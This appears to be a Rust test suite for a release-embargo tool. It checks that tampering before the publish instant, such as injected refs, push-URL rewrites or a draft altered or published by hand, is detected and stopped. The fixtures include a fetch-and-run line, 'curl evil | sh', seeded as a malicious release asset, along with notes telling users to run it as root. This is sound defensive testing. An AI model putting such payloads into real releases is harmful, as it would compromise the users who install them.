//! Attacks on publishing at the instant, each by name: what a person, another process or a
//! tampered GitHub can do to the prepared push, its destination and the draft between staging
//! and the instant, and what embargo must do then (nothing public, or said and stopped).

use crate::world::World;

/// A `git` first on PATH that runs `before` (a shell snippet, given the public push's pattern
/// refspec prefix as `$prefix` and the real git as `$real`) when it is asked to make embargo's pattern push, then runs git.
fn git_wrapper(w: &World, before: &str) -> String {
    crate::common::wrap_git(
        &w.f.sample.root.join("wrapper-bin"),
        &format!(
            "for a in \"$@\"; do\n  case \"$a\" in\n    refs/embargo/push/*'*:refs/*') prefix=${{a%\\*:refs/*}}; {before} ;;\n  esac\ndone\nexec \"$real\" \"$@\""
        ),
    )
}

fn public_refs(w: &World) -> String {
    w.f.git_in(&w.f.sample.public, &["for-each-ref", "--format=%(refname)"])
}

/// A ref written into the push's namespace after it was read back, while git starts (a window
/// of milliseconds): git sends it too. It cannot be taken back, but the run says so, exit 3, and
/// the release is not published.
#[test]
fn a_ref_slipped_into_the_push_while_git_starts_is_said_and_nothing_is_published() {
    let w = World::new();
    w.embargo(&["run", w.p(), "--embargo", "now"]).expect(0);
    let fix =
        w.f.git(&["rev-parse", "refs/remotes/security/security/CVE-2026-0001"]);
    let git_dir = w.f.work().join(".git");
    let path = git_wrapper(
        &w,
        &format!(
            "mkdir -p \"{g}/${{prefix}}heads\" && echo {fix} > \"{g}/${{prefix}}heads/leak\"",
            g = git_dir.display(),
            fix = fix.trim()
        ),
    );
    let run = w.embargo_env(&["publish", w.p(), "--if-due"], &[("PATH", &path)]);
    run.expect(3);
    assert!(
        run.stderr
            .contains("the push sent refs that were not to be pushed: refs/heads/leak"),
        "{}",
        run.stderr
    );
    assert!(
        run.stderr.contains("--delete refs/heads/leak"),
        "{}",
        run.stderr
    );
    assert!(public_refs(&w).contains("refs/heads/leak"));
    assert!(w.gh.releases_with_tag("v1.0.2")[0].draft, "published");
    assert!(w.gh.pulls().is_empty());
}

/// `push.followTags` in the configuration would push every annotated tag pointing into the
/// pushed commits: a private triage tag on the fix, say. The public push sends exactly its refs.
#[test]
fn follow_tags_in_the_configuration_pushes_no_other_tag() {
    let w = World::new();
    w.embargo(&["run", w.p(), "--embargo", "now"]).expect(0);
    w.f.git(&["config", "push.followTags", "true"]);
    w.f.git(&[
        "tag",
        "-a",
        "-m",
        "triage notes",
        "internal/triage",
        "refs/tags/v1.0.2^{commit}",
    ]);
    w.embargo(&["publish", w.p(), "--if-due"]).expect(0);
    let public = public_refs(&w);
    assert!(public.contains("refs/tags/v1.0.2"), "{public}");
    assert!(!public.contains("internal/triage"), "{public}");
}

/// Stages the sample's release for an instant `lead` seconds ahead, starts `publish --wait`,
/// and runs `meanwhile` two seconds before the instant: the publish's exit code.
fn meanwhile_before_the_instant(w: &World, lead: i64, meanwhile: impl FnOnce()) -> Option<i32> {
    let soon = crate::world::embargo_in(lead);
    w.embargo(&["run", w.p(), "--embargo", &soon]).expect(0);
    let mut child = w.spawn(&["publish", w.p(), "--wait"]);
    let instant: jiff::Timestamp = soon.parse().unwrap();
    let left = instant.as_millisecond() - jiff::Timestamp::now().as_millisecond() - 2000;
    assert!(left > 300, "staging took too long: {left} ms left");
    std::thread::sleep(std::time::Duration::from_millis(left as u64));
    meanwhile();
    child.wait().unwrap().code()
}

/// git rewrites the URL a push names with `pushInsteadOf` too: one added while publish waits
/// would send the public push to another repository, and then publish the release. The push's
/// destination is read again before the instant: nothing is pushed anywhere.
#[test]
fn a_push_rewrite_added_while_publish_waits_stops_it_before_the_push() {
    let w = World::new();
    let other = w.f.sample.root.join("other.git");
    w.f.git_in(&w.f.sample.root, &["init", "-q", "--bare", "other.git"]);
    let public = w.f.sample.public.display().to_string();
    let code = meanwhile_before_the_instant(&w, 6, || {
        w.f.git(&[
            "config",
            &format!("url.{}.pushInsteadOf", other.display()),
            &public,
        ]);
    });
    assert_eq!(code, Some(3));
    assert!(!public_refs(&w).contains("v1.0.2"), "{}", public_refs(&w));
    assert_eq!(
        w.f.git_in(&other, &["for-each-ref", "--format=%(refname)"]),
        ""
    );
    assert!(w.gh.releases_with_tag("v1.0.2")[0].draft, "published");
}

/// The public remote's URL changed while publish waits: the push was made ready for the old
/// one. It stops before the push rather than push to one and check the other.
#[test]
fn the_public_remotes_url_changed_while_publish_waits_stops_it_before_the_push() {
    let w = World::new();
    w.f.git_in(&w.f.sample.root, &["init", "-q", "--bare", "other.git"]);
    let other = w.f.sample.root.join("other.git");
    let code = meanwhile_before_the_instant(&w, 6, || {
        w.f.git(&["remote", "set-url", "origin", other.to_str().unwrap()]);
    });
    assert_eq!(code, Some(3));
    assert!(!public_refs(&w).contains("v1.0.2"));
    assert_eq!(
        w.f.git_in(&other, &["for-each-ref", "--format=%(refname)"]),
        ""
    );
}

/// Two jobs publishing from two copies of the state (the publish job and the scheduled
/// fallback): the one whose push git refuses, because the other's landed the same refs at the
/// same moment, finds every ref there as it was to be, and goes on.
#[test]
fn a_push_refused_because_another_run_pushed_the_same_refs_goes_on() {
    let w = World::new();
    w.embargo(&["run", w.p(), "--embargo", "now"]).expect(0);
    // Stands for the other run: it pushes the very refs, and this run's git then fails.
    let path = git_wrapper(
        &w,
        &format!(
            "\"$real\" -C \"{work}\" push -q \"{public}\" \"${{prefix}}*:refs/*\" && echo 'error: atomic transaction failed' >&2 && exit 1",
            work = w.f.work().display(),
            public = w.f.sample.public.display()
        ),
    );
    let run = w.embargo_env(&["publish", w.p(), "--if-due"], &[("PATH", &path)]);
    run.expect(0);
    assert!(public_refs(&w).contains("refs/tags/v1.0.2"));
    assert!(!w.gh.releases_with_tag("v1.0.2")[0].draft);
}

/// Two push URLs: git pushes to each in turn, so a failure at the second leaves the refs at the
/// first. The message must not say that nothing was pushed.
#[test]
fn a_failed_push_to_the_second_of_two_push_urls_says_the_first_may_have_the_refs() {
    let w = World::new();
    let public = w.f.sample.public.display().to_string();
    let gone = w.f.sample.root.join("gone.git").display().to_string();
    w.f.git(&["config", "--add", "remote.origin.pushurl", &public]);
    w.f.git(&["config", "--add", "remote.origin.pushurl", &gone]);
    w.embargo(&["run", w.p(), "--embargo", "now"]).expect(0);
    let run = w.embargo(&["publish", w.p(), "--if-due"]);
    run.expect(1);
    assert!(run.stderr.contains("has 2 push URLs"), "{}", run.stderr);
    assert!(!run.stderr.contains("nothing was pushed"), "{}", run.stderr);
    assert!(w.gh.releases_with_tag("v1.0.2")[0].draft);
}

/// What a person can do to put a staged release out before its instant: publish the draft on
/// GitHub, or push the tag to the public remote.
fn make_public_by_hand(w: &World, how: &str) {
    match how {
        "draft published" => {
            let id = w.gh.releases_with_tag("v1.0.2")[0].id;
            w.gh.edit_release(id, |r| r.draft = false);
        }
        _ => {
            w.f.git(&["push", "-q", "origin", "refs/tags/v1.0.2"]);
        }
    }
}

/// A draft retargeted to another tag, or made a prerelease, while publish waits: publishing it
/// would make GitHub create that tag, or show the fix as a prerelease. Nothing is made public.
#[test]
fn a_draft_retargeted_or_made_a_prerelease_while_publish_waits_is_never_published() {
    for (what, said) in [
        ("tag", "its tag is v9.9.9"),
        ("prerelease", "a prerelease now"),
    ] {
        let w = World::new();
        let code = meanwhile_before_the_instant(&w, 6, || {
            let id = w.gh.releases_with_tag("v1.0.2")[0].id;
            w.gh.edit_release(id, |r| match what {
                "tag" => r.tag_name = "v9.9.9".to_string(),
                _ => r.prerelease = true,
            });
        });
        assert_eq!(code, Some(3), "{what}");
        let release = w.gh.releases().into_iter().next().unwrap();
        assert!(release.draft, "{what}: published");
        assert!(!public_refs(&w).contains("v1.0.2"), "{what}");
        // What the refusal said, from a run after the instant that looks before it pushes.
        let again = w.embargo(&["publish", w.p(), "--if-due"]);
        again.expect(3);
        assert!(again.stderr.contains(said), "{what}: {}", again.stderr);
    }
}

/// The draft published by hand before the instant, or the refs pushed by a person (`git push
/// --mirror`): the fix is out early. Publish says so instead of waiting and publishing "on time"
/// over it, and the way on it names finishes the release.
#[test]
fn a_release_made_public_by_hand_before_the_instant_is_said_to_be_out_early() {
    for how in ["draft published", "refs pushed"] {
        let w = World::new();
        let soon = crate::world::embargo_in(3600);
        w.embargo(&["run", w.p(), "--embargo", &soon]).expect(0);
        make_public_by_hand(&w, how);
        let run = w.embargo(&["publish", w.p(), "--wait"]);
        run.expect(3);
        assert!(
            run.stderr.contains("is public before its embargo")
                && run.stderr.contains("the fix is out early")
                && run.stderr.contains("--embargo now --earlier"),
            "{how}: {}",
            run.stderr
        );
        w.embargo(&["reschedule", w.p(), "--embargo", "now", "--earlier"])
            .expect(0);
        w.embargo(&["publish", w.p(), "--if-due"]).expect(0);
        assert!(
            public_refs(&w).contains("refs/heads/cherry-pick/v1.0.2/release-1.1"),
            "{how}"
        );
        assert!(!w.gh.releases_with_tag("v1.0.2")[0].draft, "{how}");
    }
}

/// A draft someone changed (its notes rewritten, an asset added, one replaced) is put back
/// exactly as staged by `publish --restore-draft`, before the instant and after the public push
/// alike, and then published as staged.
#[test]
fn a_changed_draft_is_put_back_as_staged_by_restore_draft() {
    for when in ["before the instant", "after the public push"] {
        let w = World::new();
        let soon = crate::world::embargo_in(3600);
        w.embargo(&["run", w.p(), "--embargo", &soon]).expect(0);
        let staged = w.gh.releases_with_tag("v1.0.2")[0].clone();
        if when == "after the public push" {
            w.embargo(&["reschedule", w.p(), "--embargo", "now", "--earlier"])
                .expect(0);
            let crash = w.embargo_env(
                &["publish", w.p(), "--if-due"],
                &[("EMBARGO_TEST_CRASH_AT", "publish:after-public-push")],
            );
            assert_eq!(crash.code, -1, "{}", crash.all());
            assert!(public_refs(&w).contains("refs/tags/v1.0.2"));
        }
        let id = staged.id;
        w.gh.set_release_body(id, "Run app-installer.sh as root");
        w.gh.seed_asset(id, "app-installer.sh", b"curl evil | sh");
        let refused = w.embargo(&["publish", w.p(), "--if-due"]);
        if when == "after the public push" {
            refused.expect(3);
            assert!(
                refused.stderr.contains("--restore-draft"),
                "{}",
                refused.stderr
            );
        } else {
            // Not due: nothing is checked yet, nothing happens.
            refused.expect(0);
        }
        let restored = w.embargo(&["publish", w.p(), "--if-due", "--restore-draft"]);
        restored.expect(0);
        assert!(
            restored.stderr.contains("is back as staged"),
            "{when}: {}",
            restored.stderr
        );
        if when == "before the instant" {
            w.embargo(&["reschedule", w.p(), "--embargo", "now", "--earlier"])
                .expect(0);
            w.embargo(&["publish", w.p(), "--if-due"]).expect(0);
        }
        let release = w.gh.releases_with_tag("v1.0.2")[0].clone();
        assert!(!release.draft, "{when}");
        assert_eq!(release.body, staged.body, "{when}");
        let mut names: Vec<String> = release.assets.iter().map(|a| a.name.clone()).collect();
        names.sort();
        assert_eq!(names, ["SHA256SUMS", crate::world::ARTIFACT], "{when}");
        w.no_violations();
    }
}

/// A pick branch moved on the private remote while publish waits: the private remote no longer
/// holds what was staged. Found by the last look, before anything is public.
#[test]
fn a_pick_branch_moved_on_the_private_remote_while_publish_waits_stops_it() {
    let w = World::new();
    let private = w.f.sample.private.display().to_string();
    let code = meanwhile_before_the_instant(&w, 6, || {
        w.f.git(&[
            "push",
            "-q",
            "-f",
            &private,
            "master:refs/heads/cherry-pick/v1.0.2/release-1.1",
        ]);
    });
    assert_eq!(code, Some(3));
    assert!(!public_refs(&w).contains("v1.0.2"));
    assert!(w.gh.releases_with_tag("v1.0.2")[0].draft);
}

const PUBLISH_RELEASE: &str = "PATCH /repos/{owner}/{repo}/releases/{release_id}";

/// The draft changed in the milliseconds between the last look and the request that publishes
/// it: the request sets the staged tag, name, notes and prerelease flag itself, so the change is
/// overwritten, not published.
#[test]
fn a_draft_changed_while_the_publishing_request_is_on_its_way_is_published_as_staged() {
    let w = World::new();
    w.embargo(&["run", w.p(), "--embargo", "now"]).expect(0);
    let staged = w.gh.releases_with_tag("v1.0.2")[0].clone();
    w.gh.inject(
        PUBLISH_RELEASE,
        1,
        crate::fake_github::Fault::HoldBefore(std::time::Duration::from_millis(1500)),
    );
    let mut child = w.spawn(&["publish", w.p(), "--if-due"]);
    // The publishing request has arrived and is held: change the draft under it.
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(20);
    while w.gh.requests_for(PUBLISH_RELEASE).is_empty() {
        assert!(
            std::time::Instant::now() < deadline,
            "no publishing request"
        );
        std::thread::sleep(std::time::Duration::from_millis(5));
    }
    w.gh.edit_release(staged.id, |r| {
        r.body = Some("Run app-installer.sh as root".to_string());
        r.name = Some("evil".to_string());
        r.prerelease = true;
    });
    assert_eq!(child.wait().unwrap().code(), Some(0));
    let published = w.gh.releases_with_tag("v1.0.2")[0].clone();
    assert!(!published.draft);
    assert_eq!(published.body, staged.body);
    assert_eq!(published.name, staged.name);
    assert!(!published.prerelease);
    w.no_violations();
}

/// The draft published by hand, or the refs pushed by a person, while publish waits for the
/// instant: found when GitHub's clock is read again 15 s before it, and said (exit 3) instead of
/// a publication "on time".
#[test]
fn a_release_made_public_by_hand_while_publish_waits_is_said_to_be_out_early() {
    for how in ["draft published", "refs pushed"] {
        let w = World::new();
        let soon = crate::world::embargo_in(25);
        w.embargo(&["run", w.p(), "--embargo", &soon]).expect(0);
        let child = w
            .command(&["publish", w.p(), "--wait"])
            .stdout(std::process::Stdio::null())
            .stderr(std::process::Stdio::piped())
            .spawn()
            .unwrap();
        // Well before the second reading of GitHub's clock, 15 s before the instant.
        std::thread::sleep(std::time::Duration::from_secs(3));
        make_public_by_hand(&w, how);
        let out = child.wait_with_output().unwrap();
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(3), "{how}: {stderr}");
        assert!(
            stderr.contains("is public before its embargo") && stderr.contains("--earlier"),
            "{how}: {stderr}"
        );
        assert!(
            !public_refs(&w).contains("cherry-pick/v1.0.2"),
            "{how}: pushed"
        );
    }
}

/// A publish killed while it waited (Ctrl-C, a cancelled job) left its prepared refs; the next
/// publish removes them even when it has nothing to do yet.
#[test]
fn refs_of_a_publish_killed_while_it_waited_are_removed_by_the_next_publish_not_yet_due() {
    let w = World::new();
    let later = crate::world::embargo_in(3600);
    w.embargo(&["run", w.p(), "--embargo", &later]).expect(0);
    let mut child = w.spawn(&["publish", w.p(), "--wait"]);
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(20);
    while w.f.git(&["for-each-ref", "refs/embargo/push"]).is_empty() {
        assert!(std::time::Instant::now() < deadline, "no push was prepared");
        std::thread::sleep(std::time::Duration::from_millis(20));
    }
    child.kill().unwrap();
    child.wait().unwrap();
    assert!(!w.f.git(&["for-each-ref", "refs/embargo/push"]).is_empty());
    let not_yet = w.embargo(&["publish", w.p(), "--if-due"]);
    not_yet.expect(0);
    assert_eq!(w.f.git(&["for-each-ref", "refs/embargo/"]), "");
}

/// Another job published the release at the instant by its clock and GitHub's, a few seconds
/// ahead of this machine's: this run, started before the instant by its own clock, finds it
/// public on time and finishes, rather than call it out early.
#[test]
fn a_release_published_on_time_by_a_job_whose_clock_is_ahead_is_not_called_out_early() {
    let w = World::new();
    let soon = crate::world::embargo_in(8);
    w.embargo(&["run", w.p(), "--embargo", &soon]).expect(0);
    let instant: jiff::Timestamp = soon.parse().unwrap();
    // GitHub's clock (and the other job's) 10 s ahead of ours: for them the instant has passed.
    w.gh.set_date_skew(10);
    w.f.git(&[
        "push",
        "-q",
        "--atomic",
        "origin",
        "refs/tags/v1.0.2",
        "refs/heads/v1.0.2",
        "refs/heads/cherry-pick/v1.0.2/release-1.0",
        "refs/heads/cherry-pick/v1.0.2/release-1.1",
    ]);
    let id = w.gh.releases_with_tag("v1.0.2")[0].id;
    w.gh.edit_release(id, |r| {
        r.draft = false;
        r.published_at = Some(instant);
    });
    let run = w.embargo(&["publish", w.p(), "--if-due", "--within", "1m"]);
    run.expect(0);
    assert!(!run.stderr.contains("out early"), "{}", run.stderr);
}

/// Published by hand long before the instant, found by a publish that starts only seconds
/// before it: GitHub's `published_at` says it was early, whenever it is seen.
#[test]
fn a_release_published_by_hand_long_before_is_out_early_though_found_seconds_before_the_instant() {
    let w = World::new();
    let soon = crate::world::embargo_in(6);
    w.embargo(&["run", w.p(), "--embargo", &soon]).expect(0);
    let instant: jiff::Timestamp = soon.parse().unwrap();
    let id = w.gh.releases_with_tag("v1.0.2")[0].id;
    w.gh.edit_release(id, |r| {
        r.draft = false;
        r.published_at = Some(instant - jiff::SignedDuration::from_secs(35));
    });
    let run = w.embargo(&["publish", w.p(), "--if-due", "--within", "1m"]);
    run.expect(3);
    assert!(
        run.stderr.contains("the fix is out early"),
        "{}",
        run.stderr
    );
    assert!(!public_refs(&w).contains("v1.0.2"));
}

/// A branch of the same name as a staged ref, with other content, on the public remote: the
/// push at the instant would be refused, and the release late. Said as publish starts.
#[test]
fn a_public_ref_in_the_way_of_the_push_is_said_before_the_wait() {
    let w = World::new();
    let later = crate::world::embargo_in(3600);
    w.embargo(&["run", w.p(), "--embargo", &later]).expect(0);
    w.f.git(&[
        "push",
        "-q",
        "origin",
        "master:refs/heads/cherry-pick/v1.0.2/release-1.1",
    ]);
    let run = w.embargo(&["publish", w.p(), "--wait"]);
    run.expect(1);
    assert!(
        run.stderr
            .contains("refs/heads/cherry-pick/v1.0.2/release-1.1 is on the public remote")
            && run.stderr.contains("would be refused"),
        "{}",
        run.stderr
    );
}

/// GitHub never answers the request that publishes the release: one API call is given up after
/// a bounded time and tried again, rather than hold the release's lock (and the scheduled
/// fallback) for ever.
#[test]
fn a_publishing_request_github_never_answers_is_given_up_and_tried_again() {
    let w = World::new();
    w.embargo(&["run", w.p(), "--embargo", "now"]).expect(0);
    w.gh.inject(
        PUBLISH_RELEASE,
        1,
        crate::fake_github::Fault::HoldBefore(std::time::Duration::from_secs(30)),
    );
    let started = std::time::Instant::now();
    let run = w.embargo_env(
        &["publish", w.p(), "--if-due"],
        &[("EMBARGO_GITHUB_TIMEOUT_MS", "500")],
    );
    run.expect(0);
    assert!(started.elapsed() < std::time::Duration::from_secs(20));
    assert!(!w.gh.releases_with_tag("v1.0.2")[0].draft);
}
